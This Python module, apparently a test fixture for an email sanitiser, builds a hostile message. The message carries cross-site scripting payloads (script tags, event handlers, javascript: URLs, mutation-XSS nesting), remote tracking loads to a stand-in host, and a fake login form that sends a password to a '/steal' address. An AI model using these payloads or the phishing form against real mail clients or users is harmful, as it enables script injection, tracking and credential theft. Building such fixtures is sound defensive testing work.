"""Mails that mean harm: markup that runs, loads or imitates, and files that would run if shown."""

from __future__ import annotations

from email.message import EmailMessage

MARK = "hostile-mark"  # every script below would leave this in the page
FAR = "http://far-away.example"

MARKUP = f"""
<html><head><base href="{FAR}/"><meta http-equiv="refresh" content="0;url={FAR}/refresh">
<link rel="stylesheet" href="{FAR}/style.css"><style>@import "{FAR}/import.css";
body {{ background: url({FAR}/css.png); width: expression(alert(1)) }}
* {{ position: fixed; top: 0 }}</style>
<script>window.top.document.title = "{MARK}"; alert("{MARK}")</script></head>
<body onload="alert('{MARK}')" background="//far-away.example/background.png">
<p>Please look at this harmless offer.</p>
<img src="x" onerror="alert('{MARK}')"><img src="{FAR}/pixel.png">
<img src="//far-away.example/p.png">
<img srcset="{FAR}/one.png 1x, {FAR}/two.png 2x"><picture><source srcset="{FAR}/s.png"></picture>
<svg onload="alert('{MARK}')"><script>alert("{MARK}")</script><image href="{FAR}/svg.png"/></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
</table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('{MARK}')>"></noscript>
<a href="javascript:alert('{MARK}')">click here</a> <a href="&#106;avascript:alert(1)">or here</a>
<a href="data:text/html,<script>alert('{MARK}')</script>">or there</a>
<iframe src="{FAR}/frame"></iframe><object data="{FAR}/object"></object><embed src="{FAR}/embed">
<video poster="{FAR}/poster.png" src="{FAR}/v.mp4" autoplay></video>
<audio src="{FAR}/a.mp3"></audio>
<form action="{FAR}/steal"><input name="password" autofocus onfocus="alert('{MARK}')">
<button>Log in again</button></form>
<details open ontoggle="alert('{MARK}')"><summary>x</summary></details>
<table background="{FAR}/table.png"><tr><td style="background-image:url('{FAR}/td.png')">cell</td>
</tr></table><marquee onstart="alert('{MARK}')">move</marquee>
</body></html>
"""
FILES = {
    "page.html": ("text", "html", f"<script>alert('{MARK}')</script>"),
    "picture.svg": (
        "image", "svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{MARK}")</script></svg>',
    ),
    "sheet.xml": (
        "application", "xml",
        f'<x xmlns="http://www.w3.org/1999/xhtml"><script>alert("{MARK}")</script></x>',
    ),
}  # fmt: skip
TITLE = f"<img src=x onerror=alert('{MARK}')><script>alert(1)</script> & \"offer\""


def hostile_mail(sender: str, message_id: str) -> bytes:
    """Everything of the above in one mail."""
    mail = EmailMessage()
    mail["From"] = f'"<svg/onload=alert(1)>" <{sender}>'
    mail["To"] = "desk@example.com"
    mail["Subject"] = TITLE
    mail["Message-ID"] = message_id
    mail.set_content(f"Please look.\n<script>alert('{MARK}')</script>\njavascript:alert(1)\n")
    mail.add_alternative(MARKUP, subtype="html")
    for name, (kind, subtype, text) in FILES.items():
        mail.add_attachment(text.encode(), maintype=kind, subtype=subtype, filename=name)
    return mail.as_bytes()
